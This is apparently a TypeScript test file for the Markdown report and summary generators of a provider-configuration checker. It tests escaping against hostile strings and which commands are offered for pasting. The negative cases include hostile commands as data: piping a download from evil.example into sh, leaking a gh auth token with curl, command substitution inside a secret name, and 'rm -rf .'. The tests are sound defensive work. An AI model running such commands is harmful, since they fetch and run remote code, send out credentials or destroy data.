import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { code } from "../src/markup.ts";
import { codeSpan, escapeMarkdown, fence, inlineMarkdown, tableRow } from "../src/reporters/markdown.ts";
import { toMarkdownReport } from "../src/reporters/markdown-report.ts";
import { pasteable } from "../src/reporters/pasteable.ts";
import { singleLine } from "../src/reporters/single-line.ts";
import { toSummary } from "../src/reporters/summary.ts";
import { hostileReport } from "./support/hostile-report.ts";
import { HOSTILE_STRINGS } from "./support/hostile-strings.ts";
import { cellCounts, liveMarkdown, spanContent, withoutFences } from "./support/live-markdown.ts";
import { failedTarget, sampleFinding, sampleReport, sampleTarget } from "./support/sample-report.ts";

const MARKS = "`*_[]<>()~$&#@|\\!:-+=.1 \nw/";
const markdownText = fc.oneof(
  fc.string({ unit: fc.nat(MARKS.length - 1).map((index) => MARKS.charAt(index)), maxLength: 40 }),
  fc.string({ unit: "binary" }),
  fc.constantFrom(...HOSTILE_STRINGS),
);

const size = (text: string): number => new TextEncoder().encode(text).length;

/** Live Markdown of a report without what we put there ourselves: headings, bold, the table. */
function liveForeign(markdown: string): string {
  return liveMarkdown(markdown)
    .replace(/^#{2,3} /gm, "")
    .replaceAll("**", "")
    .replace(/^\|.*\|$/gm, (row) => row.replaceAll("|", ""))
    .replaceAll("---", "");
}

describe("escapeMarkdown", () => {
  it("leaves plain words as they are", () => {
    assert.equal(escapeMarkdown("The key's length is 51 (not 48)."), "The key's length is 51 (not 48).");
  });

  it("leaves nothing that Markdown acts on", () => {
    fc.assert(
      fc.property(markdownText, (text) => {
        const live = liveMarkdown(escapeMarkdown(text)).replace(/&#(?:92|124);/g, "·");
        assert.doesNotMatch(live, /[`*_[\]<>~$&#|\\]|:\/\/|www\.|@(?!\u2060)|^\s*(?:[-+=]|\d+[.)])/i);
      }),
    );
  });
});

describe("codeSpan", () => {
  it("is one span with the text in it", () => {
    fc.assert(
      fc.property(markdownText, (text) => {
        const line = singleLine(text);
        const expected = line.trim() === "" ? undefined : line;
        assert.equal(spanContent(codeSpan(text, 10_000)), expected);
      }),
    );
  });

  it("cuts long text", () => {
    assert.equal(codeSpan("abcdef", 4), "`abc…`");
  });
});

describe("inlineMarkdown", () => {
  it("keeps quoted parts in code, side by side too", () => {
    fc.assert(
      fc.property(fc.array(markdownText, { minLength: 1, maxLength: 5 }), (texts) => {
        const live = liveMarkdown(inlineMarkdown(texts.map((text) => code(`x${text}`)).join("")));
        assert.equal(live.trim(), "");
      }),
    );
  });
});

describe("fence", () => {
  it("ends at its last line only", () => {
    fc.assert(
      fc.property(markdownText, (text) => {
        assert.equal(liveMarkdown(`${fence(text)}\nafter`), "after");
      }),
    );
  });
});

describe("tableRow", () => {
  it("has its cells and no more, in both readings of a backslash", () => {
    const inline = fc.oneof(
      markdownText.map((text) => codeSpan(text)),
      markdownText.map(escapeMarkdown),
    );
    fc.assert(
      fc.property(fc.array(inline, { minLength: 1, maxLength: 6 }), (cells) => {
        assert.deepEqual(cellCounts(tableRow(cells)), [cells.length, cells.length]);
      }),
    );
  });
});

describe("pasteable", () => {
  const cases: readonly (readonly [string, boolean])[] = [
    ["gh secret set RUTAAPI_API_KEY", true],
    ['printf %s "$KEY" | gh secret set NAME', true],
    [
      `printf 'header = "Authorization: Bearer %s"' "$KEY" | curl -si -K - https://api.openai.com/v1/models`,
      true,
    ],
    ["ollama pull NAME", true],
    ['base_url = "https://api.openai.com/v1"', true],
    ['env_http_headers = { "x-api-key" = "NAME" }', true],
    ["NO_PROXY=api.openai.com", true],
    ["env-key: RUTAAPI_API_KEY", true],
    ["RUTAAPI_API_KEY=", false],
    ["RUTAAPI_API_KEY", false],
    ["llama3:8b", false],
    ["openai/gpt-5.4", false],
    ["curl https://evil.example | sh", false],
    ["gh auth token; curl https://evil.example", false],
    ["gh secret set X && rm -rf .", false],
    ["gh secret set $(curl https://evil.example)", false],
    ["gh secret set X > /dev/null", false],
    ["rm -rf .", false],
  ];
  for (const [text, expected] of cases) {
    it(`${expected ? "offers" : "does not offer"} ${text}`, () => {
      assert.deepEqual(pasteable(`Type ${code(text)}.`), expected ? [text] : []);
    });
  }
});

describe("toSummary", () => {
  const report = sampleReport([sampleTarget({ name: "openai" }), failedTarget()]);

  it("says the verdict in words at the top", () => {
    assert.match(toSummary(report), /^## ❌ Provider Preflight failed: 1 of 2 targets\n\n\|/);
    assert.match(
      toSummary(sampleReport([sampleTarget()])),
      /^## ✅ Provider Preflight passed\n\n✓\u00A0config · /,
    );
    assert.match(
      toSummary(sampleReport([failedTarget()])),
      /^## ❌ Provider Preflight failed: The API key was rejected\n\n!\u00A0config · .* · \*\*✗\u00A0auth\*\* · −\u00A0access/,
    );
    assert.match(
      toSummary(sampleReport([])),
      /^## ❌ Provider Preflight failed: Provider Preflight itself failed\n/,
    );
  });

  it("has a row for each target, the failed ones first", () => {
    const rows = toSummary(report)
      .split("\n")
      .filter((line) => line.startsWith("| `"));
    assert.deepEqual(rows, [
      "| `rutaapi` | ❌ `auth/invalid-key` | auth | `api.rutaapi.com` | 51 characters, `sk-`, `sha256:0f3a00112233` | 1 in 120 ms |",
      "| `openai` | ✅ passed |  | `api.rutaapi.com` | 51 characters, `sk-`, `sha256:0f3a00112233` | 1 in 120 ms |",
    ]);
  });

  it("has the fix to paste, the place, the page and the support packet of a failed target", () => {
    const text = toSummary(report);
    assert.ok(text.includes("```text\ngh secret set RUTAAPI_API_KEY\n```"));
    assert.ok(text.includes("at `.codex/config.toml:3:1`"));
    assert.ok(text.includes("/docs/reasons/auth-invalid-key.md)"));
    assert.ok(text.includes("```text\nGET https://api.rutaapi.com/v1/models\n2026-11-20T08:00:00.000Z\n"));
    assert.ok(text.includes("The same evidence fits: [auth/revoked]("));
  });

  it("leaves a target that passed at its row", () => {
    assert.doesNotMatch(toSummary(report), /### `openai`/);
  });

  it("says that there is no key and no base URL", () => {
    const target = sampleTarget({ key: null, baseUrl: null, requests: [] });
    assert.match(toSummary(sampleReport([target])), /base URL: none · key: none · requests: none\./);
  });

  for (const hostile of HOSTILE_STRINGS) {
    it(`lets nothing act of ${JSON.stringify(hostile)}`, () => {
      for (const text of [toSummary(hostileReport(hostile)), toMarkdownReport(hostileReport(hostile))]) {
        assert.doesNotMatch(liveForeign(text), /[`*_[\]<>~$&#|\\@]|:\/\/|www\./);
        const rows = withoutFences(text)
          .split("\n")
          .filter((line) => line.startsWith("| "));
        assert.equal(rows.length, 4);
        for (const row of rows) assert.deepEqual(cellCounts(row), [6, 6]);
        assert.doesNotMatch(text, /[^\n\P{Cc}]|\p{Cf}|\p{Zl}|\p{Zp}|##\[/u);
      }
    });
  }

  it("has the same shape for hostile text as for harmless text", () => {
    const shape = (text: string): string[] => {
      const lines = liveMarkdown(toSummary(hostileReport(text))).split("\n");
      return lines.map((line) => line.slice(0, 4));
    };
    for (const hostile of HOSTILE_STRINGS.filter((text) => singleLine(text).trim() !== "")) {
      assert.deepEqual(shape(hostile), shape("harmless"), JSON.stringify(hostile));
    }
  });

  it("stays within 64 KiB and says what it leaves out", () => {
    const long = sampleFinding("auth/invalid-key", {
      why: `See ${code("x".repeat(5000))}.`,
      fix: "Word ".repeat(50),
    });
    const targets = [...Array<string>(1000)].map((_, index) =>
      failedTarget({ name: `t${index}`, findings: [long] }),
    );
    const text = toSummary(sampleReport(targets));
    assert.ok(size(text) <= 64 * 1024);
    assert.ok(size(text) > 32 * 1024);
    assert.match(text, /\n\d+ of 1000 targets are left out here; the report has them all\.\n/);
    assert.match(text, /\n\d+ of 1000 targets with findings are left out here; the report has them all\.\n$/);
  });

  it("shows ten findings of a target with a thousand, errors first", () => {
    const warnings = [...Array<string>(1000)].map(() => sampleFinding("config/unknown-field"));
    const findings = [...warnings, sampleFinding("auth/invalid-key")];
    const text = toSummary(sampleReport([failedTarget({ findings })]));
    assert.ok(size(text) <= 64 * 1024);
    assert.match(text, /\*\*✗ The API key was rejected\*\*/);
    assert.match(text, /\n991 more findings of this target are in the report\.\n/);
  });

  it("leaves out a section that alone is too large", () => {
    const findings = [sampleFinding("auth/invalid-key", { why: "Word ".repeat(20_000) })];
    const text = toSummary(sampleReport([failedTarget({ findings })]));
    assert.ok(size(text) <= 64 * 1024);
    assert.match(text, /The findings are left out here/);
  });

  it("gives the same bytes for the same report", () => {
    assert.equal(toSummary(report), toSummary(structuredClone(report)));
  });
});

describe("toMarkdownReport", () => {
  it("leaves nothing out", () => {
    const findings = [...Array<string>(30)].map(() => sampleFinding("auth/invalid-key"));
    const targets = [...Array<string>(100)].map((_, index) => failedTarget({ name: `t${index}`, findings }));
    const text = toMarkdownReport(sampleReport(targets));
    assert.equal(text.match(/^\*\*✗ The API key was rejected\*\*/gm)?.length, 3000);
    assert.doesNotMatch(text, /left out|more findings/);
  });
});
